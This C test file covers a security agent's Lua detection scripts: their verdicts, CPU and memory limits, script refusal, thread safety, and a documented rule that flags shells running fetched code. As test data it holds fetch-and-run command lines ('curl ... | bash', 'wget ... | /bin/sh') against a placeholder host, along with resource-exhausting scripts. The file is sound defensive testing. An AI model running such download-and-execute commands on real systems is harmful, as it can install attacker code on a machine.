/* SPDX-License-Identifier: Apache-2.0 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include "base/clock.h"
#include "base/err.h"
#include "base/log.h"
#include "base/test.h"
#include "event/json_event.h"
#include "predicate/lua/hostile.h"
#include "predicate/script.h"
#include "rule/rule.h"

/* One event and one script. */
struct fixture {
	struct json_event json;
	struct event ev;
	struct script_code *code;
	struct script *script;
	struct diag diag;
};

static void fixture_close(struct fixture *f)
{
	script_free(f->script);
	script_code_free(f->code);
	json_event_free(&f->json);
}
#define auto_fixture __attribute__((cleanup(fixture_close)))

static bool fixture_event(struct fixture *f, const char *line)
{
	return json_event_parse(&f->json, line, strlen(line)) == 0;
}

static const char event_line[] =
	"{\"@timestamp\":\"2024-05-06T07:08:09.5Z\",\"event\":{\"category\":[\"process\",\"file\"],\"dataset\":"
	"\"process.exec\"},\"process\":{\"name\":\"Bash\",\"pid\":42,\"args\":[\"bash\",\"-c\",\"id\"],\"ratio\":2.5},"
	"\"user\":{\"id\":\"1000\"},\"source\":{\"ip\":\"10.1.2.3\"},\"ok\":true,\"off\":false,\"nothing\":null,"
	"\"big\":9007199254740993,\"message\":\"hello\",\"nulls\":[null,1]}";

/* The script's names are known before the event is read, as in the agent. */
static int fixture_open(struct fixture *f, const char *text, const struct script_options *options)
{
	int r;

	json_event_init(&f->json, true);
	f->ev = json_event_as_event(&f->json);
	r = script_compile(SCRIPT_LUA, "test", text, strlen(text), options, &f->diag, &f->code);
	if (r < 0)
		return r;
	r = script_open(f->code, &f->script);
	return r < 0 ? r : fixture_event(f, event_line) ? 0 : -EINVAL;
}

TEST(scripts_say_yes_and_no)
{
	static const struct {
		const char *name, *text;
		enum script_verdict want;
	} rows[] = {
		{ "a function", "return function(event) return event['process.name'] == 'Bash' end", SCRIPT_YES },
		{ "a global", "function match(event) return event['process.name'] == 'Bash' end", SCRIPT_YES },
		{ "no", "return function(event) return event['process.name'] == 'zsh' end", SCRIPT_NO },
		{ "nothing", "return function() end", SCRIPT_NO },
		{ "anything but nil and false is yes", "return function() return 0 end", SCRIPT_YES },
		{ "numbers", "return function(e) return e['process.pid'] == 42 and e['process.ratio'] > 2.4 end",
		  SCRIPT_YES },
		{ "a word after a dot", "return function(e) return e.message == 'hello' end", SCRIPT_YES },
		{ "absent is nil", "return function(e) return e['process.parent.name'] == nil end", SCRIPT_YES },
		{ "null is nil", "return function(e) return e['nothing'] == nil end", SCRIPT_YES },
		{ "lists", "return function(e) local a = e['process.args'] return #a == 3 and a[3] == 'id' end",
		  SCRIPT_YES },
		{ "nulls are no items", "return function(e) local a = e['nulls'] return #a == 1 and a[1] == 1 end",
		  SCRIPT_YES },
		{ "bools", "return function(e) return e['ok'] and e['off'] == false end", SCRIPT_YES },
		{ "all digits of a large number",
		  "return function(e) return shrike.text('big.x') == nil and "
		  "shrike.text(shrike.field('big')) == '9007199254740993' end\n"
		  "-- e['big']",
		  SCRIPT_FAILED },
		{ "named at the top",
		  "local big = shrike.field('big') return function(e) return "
		  "shrike.text(big) == '9007199254740993' end",
		  SCRIPT_YES },
		{ "time, category, dataset",
		  "return function() return shrike.time() > 1.7e18 and shrike.category() == 'process' and "
		  "shrike.dataset() == 'process.exec' end",
		  SCRIPT_YES },
		{ "typed",
		  "return function() return shrike.int('user.id') == 1000 and shrike.float('process.ratio') "
		  "== 2.5 and shrike.bool('process.pid') == nil and shrike.count('process.args') == 3 and "
		  "shrike.item('process.args', 1) == '-c' and shrike.item('process.args', 3) == nil and "
		  "shrike.exists('user.id') and not shrike.exists('user.name') end",
		  SCRIPT_YES },
		{ "any item",
		  "return function() return shrike.field_is('process.args', '-c') and not "
		  "shrike.field_is('process.args', '-C') and shrike.field_is_fold('process.args', '-C') "
		  "end",
		  SCRIPT_YES },
		{ "texts",
		  "return function(e) local n = e['process.name'] return shrike.starts_with(n, 'Ba') and "
		  "shrike.ends_with_fold(n, 'ASH') and shrike.contains_fold(n, 'AS') and not "
		  "shrike.contains(n, 'AS') and shrike.is_fold(n, 'bASH') end",
		  SCRIPT_YES },
		{ "a text that is nil fits nothing",
		  "return function(e) return shrike.contains(e['user.name'], '') end", SCRIPT_NO },
		{ "patterns",
		  "local p, w = shrike.regex('[A-Z][a-z]+'), shrike.wildcard_fold('b?SH')\n"
		  "return function(e) return shrike.matches(e['process.name'], p) and "
		  "shrike.field_matches('process.name', w) and not shrike.field_matches('user.id', p) end",
		  SCRIPT_YES },
		{ "blocks",
		  "local b = shrike.blocks{'10.0.0.0/8', 'fd00::/8'}\n"
		  "return function(e) return shrike.field_in_blocks('source.ip', b) and "
		  "not shrike.in_blocks('11.0.0.0', b) and not shrike.in_blocks('x', b) end",
		  SCRIPT_YES },
		{ "lists of its own",
		  "local l = shrike.list_of{'sh', 'bash'}\n"
		  "return function(e) return shrike.field_in_fold('process.name', l) and not "
		  "shrike.field_in('process.name', l) and shrike.in_list('sh', l) end",
		  SCRIPT_YES },
		{ "lists of the rule",
		  "local l = shrike.list('shells') return function(e) return "
		  "shrike.field_in_fold('process.name', l) end",
		  SCRIPT_YES },
		{ "what of Lua's library there is",
		  "local function keys(t) local s = '' for k, v in pairs(t) do s = s .. tostring(k) .. v end return s "
		  "end\n"
		  "return function() local t = {3, 1, 2} table.sort(t) table.insert(t, 4) table.insert(t, 1, 0) "
		  "return table.concat(t, ',') == '0,1,2,3,4' and table.remove(t) == 4 and table.remove(t, 1) == 0 and "
		  "('aXb'):lower() == 'axb' and ('abc'):find('c', 1, true) == 3 and ('abc'):sub(2) == 'bc' and "
		  "string.format('%d %s', 7, {}) == '7 table' and tostring(keys) == 'function' and "
		  "bit.band(6, 3) == 2 and math.floor(2.5) == 2 and keys{b = 1, a = 2, 5} == '15a2b1' and "
		  "tonumber('0x10') == 16 and select('#', 1, 2) == 2 and #string.rep('ab', 3) == 6 end",
		  SCRIPT_YES },
		{ "sorted the other way",
		  "return function() local t = {} for i = 1, 500 do t[i] = i * 7919 % 503 end "
		  "table.sort(t, function(a, b) return a > b end) for i = 2, 500 do if t[i - 1] "
		  "< t[i] then return false end end return true end",
		  SCRIPT_YES },
		{ "an error", "return function(e) error('no luck') end", SCRIPT_FAILED },
		{ "an error that is a table", "return function(e) error({}) end", SCRIPT_FAILED },
		{ "nil is no table", "return function(e) return e['user.name']:lower() == 'x' end", SCRIPT_FAILED },
	};
	static const char *const shells[] = { "sh", "bash" };
	static const struct host_named_list lists[] = { { "shells", shells, countof(shells) } };
	static const struct script_options options = { .lists = lists, .n_lists = countof(lists) };

	for_each_row (r, rows) {
		auto_fixture struct fixture f = { 0 };
		int opened = fixture_open(&f, r->text, &options);

		if (opened < 0) {
			test_fail(T_HERE, "%s", err_trail());
			continue;
		}
		for (int i = 0; i < 3; i++) {
			enum script_verdict got = script_run(f.script, &f.ev);

			check_int(got, r->want);
			if (got != r->want)
				test_fail(T_HERE, "%s", script_error(f.script));
		}
	}
}

/* ---- limits ---------------------------------------------------------------------------------------------------- */

static uint64_t cpu_ns(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
	return (uint64_t)t.tv_sec * NS_PER_S + (uint64_t)t.tv_nsec;
}

TEST(hostile_scripts_end_within_their_limits_and_others_go_on)
{
	static const struct script_limits often = { .strikes = 1000000 };
	static const struct script_options options = { .limits = &often };
	auto_fixture struct fixture good = { 0 };

	log_set_level(LOG_LEVEL_ERROR);
	require_ok(fixture_open(&good, "return function(event) return event['process.pid'] == 42 end", NULL));
	for_each_row (r, hostile) {
		auto_fixture struct fixture f = { 0 };
		char text[1024];

		(void)snprintf(text, sizeof(text), "%sfunction match(event) %s end", r->top, r->text);
		if (fixture_open(&f, text, &options) < 0) {
			test_fail(T_HERE, "%s", err_trail());
			continue;
		}
		/* Twice: what is left of it is as good as new. */
		for (int i = 0; i < 2; i++) {
			uint64_t began = cpu_ns();
			enum script_verdict got = script_run(f.script, &f.ev);

			/* Far more than the 3 ms that it has, and far less than it wants. */
			check(cpu_ns() - began < NS_PER_S);
			if (r->want == ENDS_SOMEHOW)
				check(got >= SCRIPT_TOO_LONG && got <= SCRIPT_FAILED);
			else
				check_int(got, r->want);
			check(got < SCRIPT_TOO_LONG || *script_error(f.script));
			check_int(script_run(good.script, &good.ev), SCRIPT_YES);
		}
	}
	log_set_level(LOG_LEVEL_INFO);
}

/* Nothing can interrupt it, so it would delay others by as long as it takes. */
TEST(a_call_about_a_large_text_begins_only_with_time_for_all_of_it)
{
	static const struct {
		const char *name, *text;
		uint64_t time_ns;
		enum script_verdict want;
	} rows[] = {
		{ "a search, in time", "return s:find('b', 1, true) == nil", 10 * NS_PER_S, SCRIPT_YES },
		{ "a search, too late", "return s:find('b', 1, true) == nil", NS_PER_MS, SCRIPT_TOO_LONG },
		{ "a pattern, in time", "return not shrike.matches(s, p)", 10 * NS_PER_S, SCRIPT_YES },
		{ "a pattern, too late", "return not shrike.matches(s, p)", NS_PER_MS, SCRIPT_TOO_LONG },
	};

	log_set_level(LOG_LEVEL_ERROR);
	for_each_row (r, rows) {
		const struct script_limits limits = { .time_ns = r->time_ns };
		const struct script_options options = { .limits = &limits };
		auto_fixture struct fixture f = { 0 };
		char text[256];

		(void)snprintf(text, sizeof(text),
			       "local p = shrike.regex('b') function match() local s = string.rep('a', 1000000) %s end",
			       r->text);
		require_ok(fixture_open(&f, text, &options));
		check_int(script_run(f.script, &f.ev), r->want);
	}
	log_set_level(LOG_LEVEL_INFO);
}

TEST(scripts_that_cannot_run_are_refused_with_their_line)
{
	static const struct {
		const char *name, *text;
		unsigned line;
		const char *message;
	} rows[] = {
		{ "syntax", "\n\nreturn function( end", 3, "'end'" },
		{ "no function", "return 1", 0, "" },
		{ "nothing", "", 0, "a script returns a function of an event, or defines match(event)" },
		{ "an error at the top", "\nerror('x')", 2, "x" },
		{ "an endless loop at the top", "while true do end", 0, "instructions" },
		{ "memory at the top", "local s = 'x' while true do s = s .. s end", 0, "at most" },
		{ "a bad pattern", "\nlocal p = shrike.regex('(') function match() end", 2, "character is missing" },
		{ "bad blocks", "local p = shrike.blocks('10.0.0.0/33') function match() end", 1, "10.0.0.0/33" },
		{ "a list that the rule has not", "local p = shrike.list('x') function match() end", 1,
		  "the rule has no list \"x\"" },
		{ "a field that cannot be", "local p = shrike.field('') function match() end", 1, "name of a field" },
		{ "the event at the top", "local p = shrike.category() function match() end", 1, "there is no event" },
		{ "bytecode", "\x1bLJ\x02", 0, "" },
		{ "nested without end",
		  "return ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((("
		  "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((("
		  "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1",
		  1, "" },
		{ "too complex a pattern", "local p = shrike.regex('.*a.{300}b.{300}c.*') function match() end", 1,
		  "too complex" },
		{ "more patterns than there may be", "for i = 1, 100 do shrike.regex('x' .. i) end", 1,
		  "more than 64 patterns" },
		{ "more fields than there may be", "for i = 1, 300 do shrike.field('x.y' .. i) end", 1,
		  "more than 256 fields" },
	};

	for_each_row (r, rows) {
		auto_fixture struct fixture f = { 0 };

		check_int(fixture_open(&f, r->text, NULL), -EINVAL);
		check_int(f.diag.line, r->line);
		check_has(f.diag.message, r->message);
		check_has(err_trail(), f.diag.message);
	}
}

TEST(nothing_is_kept_from_one_event_to_the_next)
{
	static const struct {
		const char *name, *text;
	} rows[] = {
		{ "a variable", "local n = 0 return function() n = n + 1 return n == 1 end" },
		{ "a variable of a function within", "local n = 0 local function f() n = n + 1 return n end return "
						     "function() return f() == 1 end" },
		{ "a table", "local t = {} return function() t[#t + 1] = 1 return #t == 1 end" },
		{ "a table in a table", "local t = {{}} return function() local x = t[1] x[#x + 1] = 1 return #x == 1 "
					"end" },
		{ "a table of globals", "t = {} function match() t[#t + 1] = 1 return #t == 1 end" },
		{ "a table behind functions", "local function make() local t = {} return function() t[#t + 1] = 1 "
					      "return #t end end local f = make() return function() return f() == 1 "
					      "end" },
		{ "a generator", "local function count() local n = 0 return function() n = n + 1 return n end end "
				 "local f = count() return function() return f() == 1 end" },
		{ "an iterator", "local i = pairs{1, 2, 3} return function() return i() == 1 end" },
		{ "a text is set to nil", "local t = 'x' return function() local was = t t = nil return was == 'x' "
					  "end" },
		{ "nothing at all", "return function() local t = {} t[1] = 1 return #t == 1 end" },
	};

	for_each_row (r, rows) {
		auto_fixture struct fixture f = { 0 };

		require_ok(fixture_open(&f, r->text, NULL));
		for (int i = 0; i < 3; i++)
			check_int(script_run(f.script, &f.ev), SCRIPT_YES);
		check_str(script_error(f.script), "");
	}
}

TEST(memory_that_scripts_leave_is_found_again)
{
	static const struct script_limits limits = { .memory = 2 << 20 };
	static const struct script_options options = { .limits = &limits };
	auto_fixture struct fixture f = { 0 };

	/* Blocks of all sizes, most of them only once. */
	require_ok(fixture_open(&f,
				"return function(e) local n = e['process.pid'] local t = {} for i = 1, 20 do t[i] = "
				"string.rep('x', (n * 7919 + i * 104729) % 20000) end return #t == 20 end",
				&options));
	for (int i = 0; i < 3000; i++) {
		char line[64];
		enum script_verdict got;

		(void)snprintf(line, sizeof(line), "{\"process\":{\"pid\":%d}}", i);
		require(fixture_event(&f, line));
		got = script_run(f.script, &f.ev);
		if (got != SCRIPT_YES)
			test_fail(T_HERE, "%d: %d %s", i, got, script_error(f.script));
		require(got == SCRIPT_YES);
	}
}

TEST(a_script_is_disabled_after_its_strikes)
{
	static const struct script_limits limits = { .strikes = 3 };
	static const struct script_options options = { .limits = &limits };
	auto_fixture struct fixture f = { 0 };
	struct script_stats stats;
	char reason[256];

	require_ok(fixture_open(&f,
				"return function(e) if e['process.pid'] == 42 then error('no luck') end return true "
				"end",
				&options));
	check_int(script_run(f.script, &f.ev), SCRIPT_FAILED);
	check_has(script_error(f.script), "line 1: no luck");
	require(fixture_event(&f, "{\"process\":{\"pid\":1}}"));
	check_int(script_run(f.script, &f.ev), SCRIPT_YES);
	script_reason(f.code, reason, sizeof(reason));
	check_str(reason, "");
	require(fixture_event(&f, event_line));
	check_int(script_run(f.script, &f.ev), SCRIPT_FAILED);
	check_int(script_run(f.script, &f.ev), SCRIPT_FAILED);
	check_int(script_run(f.script, &f.ev), SCRIPT_DISABLED);
	script_reason(f.code, reason, sizeof(reason));
	check_has(reason, "no luck");
	script_free(take(f.script));
	script_stats(f.code, &stats);
	check_int(stats.runs, 4);
	check_int(stats.matches, 1);
	check_int(stats.failed, 3);
	check(stats.disabled);
}

/* ---- threads --------------------------------------------------------------------------------------------------- */

enum { THREADS = 4, TURNS = 2000 };

struct runner {
	pthread_t thread;
	struct script_code *code;
	const struct event *ev;
	atomic_uint *wrong;
};

static void *run_turns(void *arg)
{
	struct runner *r = arg;
	AUTO(script) s = NULL;

	if (script_open(r->code, &s) < 0) {
		atomic_fetch_add(r->wrong, 1);
		return NULL;
	}
	for (int i = 0; i < TURNS; i++)
		if (script_run(s, r->ev) != SCRIPT_YES)
			atomic_fetch_add(r->wrong, 1);
	return NULL;
}

TEST(instances_on_several_threads_share_one_code)
{
	auto_fixture struct fixture f = { 0 };
	struct runner runner[THREADS];
	struct script_stats stats;
	atomic_uint wrong = 0;

	require_ok(fixture_open(&f,
				"local p, l = shrike.regex('B.*'), shrike.list_of{'bash'}\n"
				"return function(e) return shrike.matches(e['process.name'], p) and "
				"shrike.field_in_fold('process.name', l) end",
				NULL));
	for (size_t i = 0; i < THREADS; i++) {
		runner[i] = (struct runner) { .code = f.code, .ev = &f.ev, .wrong = &wrong };
		require(pthread_create(&runner[i].thread, NULL, run_turns, &runner[i]) == 0);
	}
	for (int i = 0; i < 100; i++)
		script_stats(f.code, &stats);
	for (size_t i = 0; i < THREADS; i++)
		(void)pthread_join(runner[i].thread, NULL);
	script_stats(f.code, &stats);
	check_int(atomic_load(&wrong), 0);
	check_int(stats.runs, THREADS * TURNS);
	check_int(stats.matches, THREADS * TURNS);
	check(stats.ns > 0);
}

/* ---- the guide ------------------------------------------------------------------------------------------------- */

TEST(the_example_of_the_guide_does_what_it_says)
{
	static const struct {
		const char *name, *line;
		enum script_verdict want;
	} rows[] = {
		{ "fetched and run",
		  "{\"process\":{\"name\":\"sh\",\"args\":[\"sh\",\"-c\",\"curl -s http://x/y | bash\"]}}",
		  SCRIPT_YES },
		{ "by its path",
		  "{\"process\":{\"name\":\"bash\",\"args\":[\"bash\",\"-c\",\"cd /tmp; /usr/bin/wget -q x -O- "
		  "|/bin/sh\"]}}",
		  SCRIPT_YES },
		{ "only fetched", "{\"process\":{\"name\":\"sh\",\"args\":[\"sh\",\"-c\",\"curl http://x\"]}}",
		  SCRIPT_NO },
		{ "no shell", "{\"process\":{\"name\":\"vi\",\"args\":[\"vi\",\"-c\",\"curl x | sh\"]}}", SCRIPT_NO },
		{ "no arguments", "{\"process\":{\"name\":\"sh\"}}", SCRIPT_NO },
	};
	auto_file FILE *file = fopen(SHRIKE_SOURCE_DIR "/docs/scripts.md", "re");
	auto_fixture struct fixture f = { 0 };
	static char page[1 << 16];
	char *first, *last;

	require(file);
	page[fread(page, 1, sizeof(page) - 1, file)] = 0;
	first = strstr(page, "```lua\n");
	require(first);
	first += strlen("```lua\n");
	last = strstr(first, "```");
	require(last);
	*last = 0;
	require_ok(fixture_open(&f, first, NULL));
	for_each_row (r, rows) {
		require(fixture_event(&f, r->line));
		check_int(script_run(f.script, &f.ev), r->want);
		check_str(script_error(f.script), "");
	}
}
